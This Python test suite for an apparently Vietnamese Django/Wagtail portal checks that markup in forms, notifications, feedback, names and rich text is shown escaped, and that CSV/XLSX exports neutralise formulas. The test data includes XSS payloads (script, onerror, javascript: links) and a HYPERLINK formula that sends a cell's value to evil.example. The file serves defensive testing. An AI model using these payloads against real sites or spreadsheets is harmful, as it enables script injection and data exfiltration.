"""Markup put in by administrators or users is shown as text, never run.

The same payload goes into every place an administrator or a user writes text — rich text
(through the admin editor's own converter), field labels, help texts and choices, unit and
person names, feedback, notifications, regulation text — and each page that shows it must hold
no live ``<script>``, no tag with ``onerror=`` and no ``javascript:`` link. Spreadsheet
exports keep a formula-like name as text.
"""

import csv
import datetime
import io
import json
import re
from zoneinfo import ZoneInfo

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from forms.feedback.defaults import categories_ensure
from forms.feedback.models import FeedbackCategory
from forms.feedback.services import feedback_submit
from forms.models import FormField, Submission
from forms.services import submission_create
from portal.notifications.models import Notification
from portal.org import roles
from tests.factories import add_to_role, approval_form, home_page, two_step_policy
from tests.security.conftest import login

pytestmark = pytest.mark.django_db

PAYLOAD = (
    "<script>alert('XSS')</script>"
    '<img src=x onerror="alert(1)">'
    "<a href=\"javascript:alert('XSS')\">bấm</a>"
    "<svg onload=alert(1)>"
)
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def assert_inert(html: str) -> None:
    assert "<script>alert('XSS')" not in html
    assert not re.search(r"<(img|svg)[^>]*\son(error|load)\s*=", html, re.I)
    assert not re.search(r"""<a\s[^>]*href\s*=\s*["']?\s*javascript:""", html, re.I)


def editor_html(text: str, url: str = "javascript:alert('XSS')") -> str:
    """What the admin's rich-text editor stores for ``text`` followed by a link to ``url``."""
    from wagtail.admin.rich_text import DraftailRichTextArea

    block = {
        "key": "a1b2c",
        "text": text + " liên kết",
        "type": "unstyled",
        "depth": 0,
        "inlineStyleRanges": [],
        "entityRanges": [{"offset": len(text) + 1, "length": 9, "key": 0}],
    }
    entity = {"type": "LINK", "mutability": "MUTABLE", "data": {"url": url}}
    contentstate = json.dumps({"blocks": [block], "entityMap": {"0": entity}})
    return DraftailRichTextArea().converter.to_database_format(contentstate)


@pytest.fixture
def tainted(org, people):
    """A form whose labels, help text, choices, intro and thanks hold the payload, a requester
    and a unit named with it, and his submission at his unit head."""
    org["cn"].name = f"Phòng {PAYLOAD}"
    org["cn"].save()
    owner = people["owner"]
    owner.first_name, owner.last_name = PAYLOAD, "Nguyễn"
    owner.save()
    page = approval_form(
        title="Đề nghị",
        slug="de-nghi-xss",
        policy=two_step_policy(),
        intro=editor_html(PAYLOAD),
        thank_you_text=editor_html(PAYLOAD),
    )
    page.form_fields.add(
        FormField(
            label=f"Nội dung {PAYLOAD}",
            field_type="multiline",
            required=True,
            help_text=PAYLOAD,
            sort_order=0,
        ),
        FormField(
            label="Loại",
            field_type="dropdown",
            required=True,
            choices=f"Thường\n{PAYLOAD}",
            help_text=f"Chọn {PAYLOAD}",
            sort_order=1,
        ),
    )
    page.save_revision().publish()
    return page


def field_names(page) -> list[str]:
    from forms.fielddefs import build_form

    return [name for name in build_form(page, user=None).fields if name != "submission_token"]


def test_the_form_page_shows_labels_help_choices_and_intro_as_text(people, tainted):
    html = login(people["owner"]).get(tainted.url).content.decode()

    assert "&lt;script&gt;alert(&#x27;XSS&#x27;)&lt;/script&gt;" in html  # shown, escaped
    assert_inert(html)


def test_submission_inbox_and_notifications_show_the_values_as_text(people, org, tainted):
    content, kind = field_names(tainted)
    client = login(people["owner"])

    response = client.post(tainted.url, {content: PAYLOAD, kind: PAYLOAD}, follow=True)

    assert response.status_code == 200
    assert_inert(response.content.decode())  # the submission page, with the thanks message
    assert response.redirect_chain, response.context["form"].errors
    submission = Submission.objects.get()
    assert submission.data[kind] == PAYLOAD
    approver = login(people["approver"])
    for url in (
        reverse("forms:submission_detail", args=[submission.pk]),
        reverse("flows:inbox"),
        reverse("notifications:list"),
        reverse("forms:my_submissions"),
    ):
        page = (approver if "don-cua-toi" not in url else client).get(url)
        assert page.status_code == 200, url
        assert_inert(page.content.decode())
    # The dashboard names units (one of them tainted) in its tables and charts.
    dashboard = login(org["giamdoc"]).get(reverse("dashboard:index"))
    assert dashboard.status_code == 200
    assert "&lt;script&gt;" in dashboard.content.decode()
    assert_inert(dashboard.content.decode())


def test_a_notification_with_markup_is_listed_as_text(people):
    Notification.objects.create(
        user=people["owner"], verb="decided", title=PAYLOAD, body=PAYLOAD, url="/"
    )

    html = login(people["owner"]).get(reverse("notifications:list")).content.decode()

    assert "&lt;script&gt;" in html
    assert_inert(html)


def test_a_javascript_link_in_a_notification_is_not_followed(people):
    notice = Notification.objects.create(
        user=people["owner"], verb="decided", title="Đơn", url="javascript:alert(1)"
    )

    response = login(people["owner"]).get(reverse("notifications:open", args=[notice.pk]))

    assert response.status_code == 302 and response["Location"] == reverse("notifications:list")


def test_rich_text_from_the_editor_keeps_no_script_on_the_home_page(people, client):
    home = home_page()
    home.intro = editor_html(PAYLOAD)
    home.save_revision().publish()

    html = client.get(home.url).content.decode()

    assert "&lt;script&gt;" in html
    assert_inert(html)


def test_a_cong_khai_item_with_markup_in_title_summary_and_body_is_inert(org, client):
    from portal.disclosure.models import DisclosureIndexPage
    from portal.disclosure.services import disclosure_categories_ensure
    from tests.portal.disclosure.conftest import publish_item

    disclosure_categories_ensure()
    board = home_page().add_child(instance=DisclosureIndexPage(title="Công khai", slug="ck"))
    item = publish_item(
        board, title=f"Kế hoạch {PAYLOAD}", summary=PAYLOAD, body=editor_html(PAYLOAD)
    )

    for url in (item.url, board.url):
        html = client.get(url).content.decode()
        assert "&lt;script&gt;" in html, url
        assert_inert(html)


def test_feedback_text_is_shown_as_text_to_the_handler(people):
    add_to_role(people["colleague"], roles.UNION)
    case = feedback_submit(
        recipient="union",
        category=feedback_category("phan-anh"),
        title=PAYLOAD,
        content=PAYLOAD,
        anonymous=False,
        user=people["owner"],
    ).case
    handler = login(people["colleague"])

    for url in (
        reverse("feedback_handling:list"),
        reverse("feedback_handling:detail", args=[case.pk]) + "?hien-nguoi-gui=1",
    ):
        html = handler.get(url).content.decode()
        assert "&lt;script&gt;" in html, url
        assert_inert(html)
    assert_inert(login(people["owner"]).get(reverse("feedback:mine")).content.decode())


def test_regulation_text_with_markup_is_shown_as_text(people, client):
    from portal.regulations.models import RegulationIndexPage, RegulationPage
    from portal.regulations.services import regulation_import

    index = home_page().add_child(instance=RegulationIndexPage(title="Quy chế", slug="quy-che"))
    index.save_revision().publish()
    text = (
        f"QUY CHẾ\nLàm việc {PAYLOAD}\n\nChương I\nQUY ĐỊNH CHUNG\n\n"
        f"Điều 1. Phạm vi {PAYLOAD}\n1. Quy chế này quy định {PAYLOAD}.\n"
    )
    regulation_import(data=text.encode(), parent=index, source_name="q.txt")

    html = client.get(RegulationPage.objects.get().url).content.decode()

    assert "&lt;script&gt;" in html
    assert_inert(html)


# Spreadsheets ------------------------------------------------------------------------------


def test_dashboard_exports_keep_formula_like_text_as_text():
    from portal.dashboard.exports import table_csv, table_xlsx
    from portal.dashboard.report import Cell, Table

    table = Table(
        key="units",
        title="Đơn vị",
        caption="Đơn vị",
        headers=["Đơn vị", "Số đơn", "Ghi chú"],
        rows=[[Cell(FORMULA), Cell(-3, numeric=True), Cell("@SUM(1+1)")]],
    )

    rows = list(csv.reader(io.StringIO(table_csv(table).decode("utf-8-sig"))))
    assert rows[1] == ["'" + FORMULA, "-3", "'@SUM(1+1)"]
    sheet = load_workbook(io.BytesIO(table_xlsx(table))).active
    assert sheet["A3"].data_type == "s" and sheet["A3"].value == FORMULA
    assert sheet["B3"].value == -3
    assert sheet["C3"].data_type == "s"


def test_the_overtime_sheet_keeps_a_formula_like_name_as_text(people, org, time_machine):
    from tests.factories import overtime_form
    from tests.forms.leave.support import grant
    from tests.forms.overtime.support import register

    hcm = ZoneInfo("Asia/Ho_Chi_Minh")
    time_machine.move_to(datetime.datetime(2026, 11, 23, 9, 0, tzinfo=hcm), tick=False)
    add_to_role(org["chanhvp"], roles.OFFICE)
    owner = people["owner"]
    owner.last_name, owner.first_name = FORMULA, ""
    owner.save()
    grant(register(overtime_form(), owner, datetime.date(2026, 11, 25), "17:00", "19:00"))
    time_machine.move_to(datetime.datetime(2026, 12, 2, 9, 0, tzinfo=hcm), tick=False)

    response = login(org["chanhvp"]).get(
        reverse("overtime:sheet_download"), {"thang": "2026-11", "don_vi": "QLCN"}
    )

    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    named = [c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert named and all(c.data_type == "s" for c in named)


def test_submission_values_reach_the_api_verbatim_as_json_not_markup(people, form):
    submission = submission_create(
        page=form, requester=people["owner"], cleaned_data={field_names(form)[0]: PAYLOAD}
    )
    from tests.security.conftest import bearer

    response = login(people["owner"]).get(
        f"/api/v1/submissions/{submission.pk}/", **bearer(people["owner"])
    )

    assert response["Content-Type"].startswith("application/json")
    assert response.json()["data"][field_names(form)[0]] == PAYLOAD


def feedback_category(code: str) -> FeedbackCategory:
    # Seeded by a migration; a transactional test earlier in this worker may have flushed it.
    categories_ensure()
    return FeedbackCategory.objects.get(code=code)
